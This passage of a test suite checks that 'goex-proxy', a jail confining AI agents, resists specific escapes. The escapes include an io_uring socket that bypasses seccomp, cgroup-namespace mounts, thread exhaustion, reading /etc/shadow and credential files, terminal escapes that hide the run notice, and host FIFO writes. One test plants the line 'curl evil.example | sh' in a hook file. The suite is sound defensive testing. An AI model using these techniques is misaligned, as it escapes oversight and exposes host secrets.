    proxy = make_proxy(GITHUB_POLICY, start=False)
    workspace = outside / "ws"
    workspace.mkdir()
    script = (f"import errno, socket\ntry:\n    socket.socket(socket.{family}, socket.{kind})\n    print('made')\n"
              "except OSError as exc:\n    print(errno.errorcode[exc.errno])\nsocket.socket().close()\nprint('inet')")
    r = subprocess.run([*GOEX, "exec", "--config", str(proxy.config), "--agent", "mailbot", "--", "python3", "-c",
                        script], env=proxy.env, cwd=workspace, capture_output=True, text=True, timeout=120)
    assert r.stdout.split() == ["EAFNOSUPPORT", "inet"], r.stdout + r.stderr


#: A program that makes a socket of the family argv[1] through io_uring (IORING_OP_SOCKET) rather than socket(2), which
#: a seccomp filter never sees; it prints the result (a file descriptor, or -errno).
URING_SOCKET = r"""
/* Makes a socket of the family given by argv[1] through io_uring (IORING_OP_SOCKET), not socket(2); prints the
   result: a file descriptor or -errno. */
#include <linux/io_uring.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/socket.h>
#include <unistd.h>

int main(int argc, char **argv) {
    struct io_uring_params p;
    memset(&p, 0, sizeof p);
    int ring = syscall(__NR_io_uring_setup, 1, &p);
    if (ring < 0) { perror("io_uring_setup"); return 2; }
    size_t sq_size = p.sq_off.array + p.sq_entries * sizeof(unsigned);
    size_t cq_size = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
    char *sq = mmap(0, sq_size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQ_RING);
    char *cq = mmap(0, cq_size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_CQ_RING);
    struct io_uring_sqe *sqes = mmap(0, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE,
                                     MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQES);
    if (sq == MAP_FAILED || cq == MAP_FAILED || sqes == MAP_FAILED) { perror("mmap"); return 2; }
    struct io_uring_sqe *sqe = &sqes[0];
    memset(sqe, 0, sizeof *sqe);
    sqe->opcode = IORING_OP_SOCKET;
    sqe->fd = atoi(argv[1]);
    sqe->off = SOCK_STREAM;
    unsigned *tail = (unsigned *)(sq + p.sq_off.tail);
    unsigned *array = (unsigned *)(sq + p.sq_off.array);
    array[*tail & *(unsigned *)(sq + p.sq_off.ring_mask)] = 0;
    __atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
    if (syscall(__NR_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0) { perror("io_uring_enter"); return 2; }
    struct io_uring_cqe *cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
    unsigned head = *(unsigned *)(cq + p.cq_off.head);
    printf("%d\n", cqes[head & *(unsigned *)(cq + p.cq_off.ring_mask)].res);
    return 0;
}
"""


def test_the_jail_cannot_make_a_vsock_socket_through_io_uring(make_proxy, outside):
    """io_uring's operations are not system calls, so the syscall filter never sees them: IORING_OP_SOCKET made the
    AF_VSOCK socket it refuses to socket(2). io_uring is now answered as a kernel without it would (ENOSYS), as
    Docker's filter does; programs that use it fall back to plain system calls."""
    try:
        socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).close()
    except OSError:
        pytest.skip("this kernel makes no vsock sockets")
    if shutil.which("cc") is None:
        pytest.skip("needs a C compiler")
    source, program = outside / "uring_socket.c", outside / "uring_socket"
    source.write_text(URING_SOCKET)
    subprocess.run(["cc", "-O", "-o", str(program), str(source)], check=True)
    if subprocess.run([str(program), str(int(socket.AF_VSOCK))], capture_output=True, text=True).returncode != 0:
        pytest.skip("this kernel has no io_uring socket operation for the test to try")
    proxy = make_proxy(GITHUB_POLICY, start=False)
    workspace = outside / "ws"
    workspace.mkdir()
    r = subprocess.run([*GOEX, "exec", "--config", str(proxy.config), "--agent", "mailbot", "--", str(program),
                        str(int(socket.AF_VSOCK))], env=proxy.env, cwd=workspace, capture_output=True, text=True,
                       timeout=120)
    assert r.returncode == 2 and "io_uring_setup: Function not implemented" in r.stderr, r.stdout + r.stderr


#: Tries clone3 (with no arguments: EINVAL where the kernel takes it), then a cgroup namespace of its own (with a user
#: and mount namespace) and, in it, to mount each cgroup hierarchy it is in: there the hierarchy's root is its own group.
MOUNT_CGROUPS = """
import ctypes, errno, os
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall(435, None, 0)
print("clone3", errno.errorcode[ctypes.get_errno()])
mounted = []
if libc.unshare(0x10000000 | 0x00020000 | 0x02000000) != 0:
    print("cgroupns", errno.errorcode[ctypes.get_errno()])
else:
    os.mkdir("/tmp/cg")
    for line in open("/proc/self/cgroup"):
        controllers = line.split(":")[1]
        kind, options = (b"cgroup2", None) if not controllers else (b"cgroup", controllers.encode())
        if libc.mount(b"cgroup", b"/tmp/cg", kind, 0, options) == 0:
            mounted.append(controllers or "cgroup2")
            if os.path.exists("/tmp/cg/memory.soft_limit_in_bytes"):  # shared with goex-proxy: written, unchanged
                with open("/tmp/cg/memory.soft_limit_in_bytes", "r+") as f:
                    f.write(f.read())
                mounted.append("memory.soft_limit_in_bytes written")
            libc.umount2(b"/tmp/cg", 0)
print("mounted", mounted)
"""


def test_root_in_the_jail_cannot_mount_the_cgroups_it_shares_with_goex_proxy(make_proxy, outside):
    """Run as root, the jail is uid 0 to the cgroup files of the groups it is in, which (but for the pids one) are
    goex-proxy's too: in a cgroup namespace of its own, root inside mounted each hierarchy with its group as the root
    and could write them (here the memory controller's soft limit, with the value it had; a hard limit would have the
    kernel end goex-proxy, `memory.oom_control` stop every process of the group when memory runs out). The jail's
    syscall filter now refuses a cgroup namespace (unshare, clone) and clone3, whose flags it cannot read (and whose
    CLONE_INTO_CGROUP would move a child into any group of cgroup v2 whose cgroup.procs is root's)."""
    proxy = make_proxy(GITHUB_POLICY, start=False)
    workspace = outside / "ws"
    workspace.mkdir()
    r = subprocess.run([*GOEX, "exec", "--config", str(proxy.config), "--agent", "mailbot", "--", "python3", "-c",
                        MOUNT_CGROUPS], env=proxy.env, cwd=workspace, capture_output=True, text=True, timeout=120)
    assert r.returncode == 0, r.stderr
    assert r.stdout.splitlines() == ["clone3 ENOSYS", "cgroupns EPERM", "mounted []"], r.stdout
    threads = subprocess.run([*GOEX, "exec", "--config", str(proxy.config), "--agent", "mailbot", "--", "python3",
                              "-c", "import subprocess, threading; t = threading.Thread(target=print, args=('thread',), "
                              "kwargs={'flush': True}); t.start(); t.join(); subprocess.run(['echo', 'spawned'])"],
                             env=proxy.env, cwd=workspace, capture_output=True, text=True, timeout=120)
    assert threads.stdout.split() == ["thread", "spawned"], threads.stderr  # the C library falls back to clone


#: Opens N connections to the proxy's port and holds them, says it is ready, and waits for the go-ahead.
HOLD_CONNECTIONS = """
import os, socket, sys, time
from urllib.parse import urlsplit
port, n, ready, go = urlsplit(os.environ["HTTP_PROXY"]).port, int(sys.argv[1]), sys.argv[2], sys.argv[3]
held = []
for _ in range(n):
    s = socket.socket()
    s.settimeout(0.05)
    s.connect_ex(("127.0.0.1", port))  # times out once the listener's backlog is full and not taken from
    held.append(s)
open(ready, "w").close()
while not os.path.exists(go):
    time.sleep(0.05)
"""


def test_connections_held_open_by_the_jail_cost_goex_proxy_a_bounded_number_of_threads(make_proxy, outside):
    """Each connection the jail made to the proxy's port cost `exec` two threads, outside the jail and its process
    cap: a jail capped at 30 processes that held a few thousand connections open made goex-proxy start twice as many
    threads, until the machine had no process slots left (32768 here). The bridge now takes at most MOST_BRIDGED at
    once; the rest wait in the listener's backlog until one ends."""
    from goex_proxy.sandbox import jail

    proxy = make_proxy(GITHUB_POLICY, start=False, extra_config="sandbox: {max_processes: 30}\n")
    workspace = outside / "ws"
    workspace.mkdir()
    ready, go = workspace / "ready", outside / "go"
    n = jail.MOST_BRIDGED + 400
    p = subprocess.Popen([*GOEX, "exec", "--config", str(proxy.config), "--agent", "mailbot", "--files", "review",
                          "--", "python3", "-c", HOLD_CONNECTIONS, str(n), str(ready), str(go)],
                         env=proxy.env, cwd=workspace, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        wait_ready(p, proxy.home)
        most = 0
        for _ in range(30):  # the bridge has taken what it will by the time the command is ready
            most = max(most, len(os.listdir(f"/proc/{p.pid}/task")))
            time.sleep(0.1)
        go.touch()
        out, err = p.communicate(timeout=60)
    finally:
        if p.poll() is None:
            p.kill()
    assert p.returncode == 0, err
    assert most < 2 * jail.MOST_BRIDGED + 100, most


@pytest.mark.skipif(os.geteuid() != 0 or not Path("/sys/fs/cgroup/pids").is_dir(),
                    reason="the case of root on a machine with cgroup v1's pids hierarchy, which it makes read-only")
def test_a_jail_run_as_root_where_no_pids_cgroup_can_be_made_says_its_cap_does_not_hold(make_proxy, outside):
    """Root where /sys/fs/cgroup is read-only (as in many containers): `exec` says the cap does not hold, and
    `doctor` fails its check of the cap, instead of both passing over it in silence."""
    import json

    proxy = make_proxy(GITHUB_POLICY, start=False, extra_config="sandbox: {max_processes: 30}\n")
    workspace = outside / "ws"
    workspace.mkdir()
    read_only = "mount -o remount,bind,ro /sys/fs/cgroup/pids && exec \"$@\""
    for argv in (["exec", "--config", str(proxy.config), "--agent", "mailbot", "--", "true"],
                 ["doctor", "--config", str(proxy.config), "--agent", "mailbot", "--json"]):
        r = subprocess.run(["unshare", "-m", "--propagation", "private", "sh", "-c", read_only, "sh", *GOEX, *argv],
                           env=proxy.env, cwd=workspace, capture_output=True, text=True, timeout=120)
        assert "sandbox.max_processes does not hold for this jail" in r.stderr, r.stdout + r.stderr
    assert r.returncode == 1
    cap = [c for c in map(json.loads, r.stdout.splitlines()) if c["check"].startswith("a cap on the jail's processes")]
    assert [c["ok"] for c in cap] == [False], r.stdout
    assert "in no pids cgroup" in cap[0]["detail"]


def test_the_machines_own_secrets_are_hidden_from_a_jail_run_as_root(make_proxy, outside, tmp_path):
    """Run as root, the jailed command is uid 0 to the host's files: it read /etc/shadow and /etc/gshadow (and would
    have read SSH host keys and TLS private keys). The machine's own secrets are now hidden from every jail, as the
    person's credential stores are."""
    proxy = make_proxy(GITHUB_POLICY, start=False)
    workspace = outside / "ws"
    workspace.mkdir()
    shown = [p for p in ("/etc/shadow", "/etc/gshadow") if Path(p).exists()]
    assert shown, "a Debian machine has both"
    r = subprocess.run([*GOEX, "exec", "--config", str(proxy.config), "--agent", "mailbot", "--", "sh", "-c",
                        "for f in \"$@\"; do wc -c < \"$f\"; done; ls /etc/ssl/private 2>&1 | wc -l", "sh", *shown],
                       env=proxy.env, cwd=workspace, capture_output=True, text=True, timeout=120)
    sizes = r.stdout.split()
    assert sizes[:len(shown)] == ["0"] * len(shown), r.stdout + r.stderr  # covered by an empty file
    assert sizes[-1] == "0", r.stdout + r.stderr


def test_an_answer_whose_status_is_not_three_digits_is_not_relayed_and_its_outcome_is_kept(make_proxy, outside):
    """mitmproxy reads an upstream's status code with int(), so an upstream the agent reaches (its own echo server,
    allowed by policy) could answer `HTTP/1.1 99999999999999999999 OK`: relayed as it was, and too large for SQLite,
    so the outcome write failed, and with it every other outcome of the same transaction, whatever agent's; the row
    said the request "may have happened". Such an answer is a malformed one: replaced by a 502, which is recorded."""
    from tests.conftest import GITHUB_URL, LoopbackServer

    def answer(conn: socket.socket) -> None:
        conn.recv(65536)
        conn.sendall(b"HTTP/1.1 99999999999999999999 OK\r\nContent-Length: 2\r\n\r\nhi")

    server = LoopbackServer(answer)
    policy = {"both": GITHUB_POLICY["github"] + "      - name: the agent's own server\n"
                                                "        allow: {host: example.com, methods: [GET]}\n"}
    try:
        proxy = make_proxy(policy, routes={"example.com": f"http://127.0.0.1:{server.port}"})
        workspace = outside / "ws"
        workspace.mkdir()
        r = subprocess.run([*GOEX, "exec", "--config", str(proxy.config), "--agent", "mailbot", "--", "sh", "-c",
                            "curl -s -o /dev/null -w '%{http_code} ' http://example.com/a; "
                            f"curl -s -o /dev/null -w '%{{http_code}}' {GITHUB_URL}"],
                           env=proxy.env, cwd=workspace, capture_output=True, text=True, timeout=120)
    finally:
        server.close()
    assert (r.returncode, r.stdout) == (0, "502 200"), r.stdout + r.stderr
    assert server.accepted == 1  # it was sent
    assert [(row["url"], row["status"]) for row in proxy.rows()] == [("http://example.com/a", 502), (GITHUB_URL, 200)]
    assert "status code is not three digits" in proxy.log_text() and "audit write failed" not in proxy.log_text()


def test_a_binary_change_does_not_hide_the_next_one_in_the_review(make_proxy, outside):
    """`files diff` is what a person reads before keeping a run (`execute`, `--files review`). A change it cannot show
    as text said so on a line of its own without ending it, so the next change ran on after it: an agent that made a
    file binary first had the change after it (a git hook, say) printed where nobody reads a new entry."""
    proxy = make_proxy(GITHUB_POLICY, start=False)
    workspace = outside / "ws"
    workspace.mkdir()
    (workspace / "a.bin").write_bytes(b"\0before")
    r = subprocess.run([*GOEX, "exec", "--config", str(proxy.config), "--agent", "mailbot", "--files", "review", "--",
                        "sh", "-c", "printf '\\000after' > a.bin; echo 'curl evil.example | sh' > b-hook"],
                       env=proxy.env, cwd=workspace, capture_output=True, text=True, timeout=120)
    assert r.returncode == 0, r.stderr
    run = proxy.table("file_runs")[-1]["id"]
    shown = proxy.cli("files", "diff", run).stdout.splitlines()
    assert "    (binary: 7 → 6 bytes)" in shown and "added    b-hook  (file, 23 bytes, mode 644)" in shown, shown


def test_the_jail_is_the_first_to_go_when_memory_runs_out(make_proxy, outside):
    """A jail's /tmp and /dev/shm are memory (tmpfs, up to half of it each) that no process's size shows: an agent
    that filled them left the kernel's out-of-memory killer to end the largest process on the machine, goex-proxy
    itself as often as not, while the jail kept the memory. The jail's processes, its init included, are the first it
    ends (ending the init ends the jail and frees its scratch directories)."""
    proxy = make_proxy(GITHUB_POLICY, start=False)
    workspace = outside / "ws"
    workspace.mkdir()
    r = subprocess.run([*GOEX, "exec", "--config", str(proxy.config), "--agent", "mailbot", "--", "sh", "-c",
                        "cat /proc/1/oom_score_adj /proc/self/oom_score_adj"],
                       env=proxy.env, cwd=workspace, capture_output=True, text=True, timeout=120)
    assert (r.returncode, r.stdout.split()) == (0, ["1000", "1000"]), r.stderr
    assert open("/proc/self/oom_score_adj").read().strip() != "1000"  # goex-proxy's own processes are not


def test_git_credentials_where_xdg_puts_them_and_cli_token_files_are_hidden(make_proxy, outside):
    """`git credential-store` keeps the person's passwords in `~/.config/git/credentials` as well as in
    `~/.git-credentials` (it reads both, and writes the first when only it exists), and Vault, Cargo and MySQL keep
    tokens and passwords in files of their own: they were in the jail's view, read-only but readable."""
    proxy = make_proxy(GITHUB_POLICY, start=False)
    home = outside / "home"
    stores = {".config/git/credentials": "https://me:GIT-XDG-SECRET@github.com", ".vault-token": "VAULT-SECRET",
              ".cargo/credentials.toml": "token = 'CARGO-SECRET'", ".my.cnf": "password=MYSQL-SECRET"}
    for rel, text in stores.items():
        (home / rel).parent.mkdir(parents=True, exist_ok=True)
        (home / rel).write_text(text + "\n")
    (home / ".cargo" / "config.toml").write_text("# CARGO-CONFIG\n")  # beside a hidden file: still in view
    workspace = outside / "ws"
    workspace.mkdir()
    r = subprocess.run([*GOEX, "exec", "--config", str(proxy.config), "--agent", "mailbot", "--", "sh", "-c",
                        "cat ~/.cargo/config.toml; for f in " + " ".join(f"~/{rel}" for rel in stores) + "; do "
                        "cat $f; done"], env={**proxy.env, "HOME": str(home)}, cwd=workspace, capture_output=True,
                       text=True, timeout=120)
    assert "CARGO-CONFIG" in r.stdout, r.stdout + r.stderr  # the test reads the right home
    for secret in ("GIT-XDG-SECRET", "VAULT-SECRET", "CARGO-SECRET", "MYSQL-SECRET"):
        assert secret not in r.stdout, r.stdout


def test_a_run_of_sparse_files_it_never_wrote_is_dropped_before_it_is_hashed(make_proxy, outside):
    """Every byte of a file a run changed is hashed when the jail ends, holes included: `truncate -s 16T` costs the
    agent nothing and kept `exec` (or `execute`) hashing zeros for most of a day, on the supervisor's CPU (8 GB took
    40 s here). A run whose files hold more than 4 GiB they never wrote is dropped whole, as a run nested too deep is."""
    proxy = make_proxy(GITHUB_POLICY, start=False)
    workspace = outside / "ws"
    workspace.mkdir()
    started = time.monotonic()
    r = subprocess.run([*GOEX, "exec", "--config", str(proxy.config), "--agent", "mailbot", "--", "sh", "-c",
                        "echo kept > small.txt; truncate -s 8G big"], env=proxy.env, cwd=workspace,
                       capture_output=True, text=True, timeout=300)
    took = time.monotonic() - started
    assert "never wrote" in r.stderr and "dropped" in r.stderr and "Traceback" not in r.stderr, r.stderr
    assert sorted(os.listdir(workspace)) == [] and proxy.table("file_runs") == []
    assert not any((proxy.home / "runs").iterdir())
    assert took < 30, took


def test_a_file_linked_under_many_names_is_hashed_once(make_proxy, outside):
    """A hard link costs the agent nothing, and each name of a file in a run's layer was hashed whole when the jail
    ended: 32 MB linked 2,000 times kept `exec` hashing 64 GB. A file with several names is hashed once."""
    proxy = make_proxy(GITHUB_POLICY, start=False)
    workspace = outside / "ws"
    workspace.mkdir()
    agent = ("import os\nwith open('f', 'wb') as out: out.write(os.urandom(32 << 20))\n"
             "for i in range(2000): os.link('f', f'f{i}')\n")
    started = time.monotonic()
    r = subprocess.run([*GOEX, "exec", "--config", str(proxy.config), "--agent", "mailbot", "--files", "review", "--",
                        "python3", "-c", agent], env=proxy.env, cwd=workspace, capture_output=True, text=True,
                       timeout=600)
    took = time.monotonic() - started
    assert r.returncode == 0, r.stderr
    changes = proxy.table("file_changes")
    assert len(changes) == 2001 and len({c["after_sha256"] for c in changes}) == 1
    assert took < 30, took


@pytest.mark.parametrize("left", [
    r"\033[30;40m\033[8m\033[?25l\033[?1049h",  # black on black, concealed, no cursor, the alternate screen
    r"\033(0",  # G0 the line-drawing set: exec's letters drawn as box pieces ('goex-proxy: run' unreadable)
    r"\033)0\016",  # G1 the line-drawing set, and shifted out to it
])
def test_what_exec_says_after_a_run_is_seen_whatever_the_command_left_the_terminal_in(make_proxy, tmp_path, left):
    """A jailed command's output goes to the terminal as it wrote it, so it could end by turning text black on black
    (or concealed, or onto the alternate screen), and the line `exec` prints after it, naming the run and how to undo
    it, was written in that state: the person saw nothing changed. The terminal is reset before that line; read here
    through a terminal emulator (pyte), the line is in the default colours."""
    import fcntl
    import pty
    import struct
    import termios

    import pyte

    proxy = make_proxy(GITHUB_POLICY)
    work = tmp_path / "work"
    work.mkdir()
    main, sub = pty.openpty()
    fcntl.ioctl(sub, termios.TIOCSWINSZ, struct.pack("HHHH", 50, 400, 0, 0))
    script = f"printf 'shown{left}'; echo changed > f.txt"
    p = subprocess.Popen([*GOEX, "exec", "--jail", "--config", str(proxy.config), "--agent", "mailbot", "--", "sh",
                          "-c", script], env=proxy.env, cwd=work, stdin=sub, stdout=sub, stderr=sub)
    os.close(sub)
    out = b""
    try:
        while chunk := _read_pty(main):
            out += chunk
    finally:
        os.close(main)
        status = p.wait(60)
    assert status == 0 and (work / "f.txt").read_text() == "changed\n", out
    screen = pyte.Screen(400, 50)
    stream = pyte.ByteStream(screen)
    stream.use_utf8 = False  # so that character sets apply, as on xterm or VTE (pyte ignores them in UTF-8 mode)
    stream.feed(out)
    [row] = [y for y, line in enumerate(screen.display) if "goex-proxy: run" in line]
    start = screen.display[row].index("goex-proxy: run")
    said = [screen.buffer[row][x] for x in range(start, start + len("goex-proxy: run"))]
    assert all(c.fg == "default" and c.bg == "default" and not c.reverse for c in said), said[0]
    assert not screen.cursor.hidden


def _read_pty(fd: int) -> bytes:
    """What the terminal's other side wrote next (b"" once every writer has closed it)."""
    try:
        return os.read(fd, 65536)
    except OSError:  # EIO: the last writer closed it
        return b""


#: Opens each path given for writing (not waiting for a reader) and writes to it; prints what each attempt did.
WRITE_EACH = """
import os, sys
for path in sys.argv[1:]:
    try:
        fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK | os.O_CREAT, 0o600)
        os.write(fd, b"FROM-THE-JAIL")
        os.close(fd)
        print("wrote", path)
    except OSError as exc:
        print("refused", path, exc.errno)
"""


def test_a_host_fifo_in_view_takes_nothing_from_the_jail(make_proxy, outside):
    """A read-only mount refuses writes to a file but not the opening of a FIFO on it for writing: a host program's
    FIFO the jail can see (a service's control pipe, any of root's when the jail runs as root) took what the agent
    wrote. Landlock now refuses every open for writing outside the places the jail may write, which still work."""
    proxy = make_proxy(GITHUB_POLICY, start=False)
    workspace = outside / "ws"
    workspace.mkdir()
    fifo = outside / "control.fifo"
    os.mkfifo(fifo, 0o666)
    reader = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)  # a host program reading its control pipe
    try:
        places = [str(fifo), str(workspace / "made.txt"), "/tmp/scratch.txt", "/dev/null", "/dev/shm/x",
                  "/dev/stdout"]
        r = subprocess.run([*GOEX, "exec", "--config", str(proxy.config), "--agent", "mailbot", "--", "python3", "-c",
                            WRITE_EACH, *places], env=proxy.env, cwd=workspace, capture_output=True, text=True,
                           timeout=120)
        try:
            taken = os.read(reader, 100)
        except BlockingIOError:
            taken = b""
    finally:
        os.close(reader)
    assert r.returncode == 0, r.stderr
    assert taken == b"", taken
    assert f"refused {fifo} 13" in r.stdout, r.stdout  # EACCES, from Landlock
    for place in places[1:]:
        assert f"wrote {place}" in r.stdout, r.stdout
    assert (workspace / "made.txt").read_bytes() == b"FROM-THE-JAIL"  # applied from the run's layer
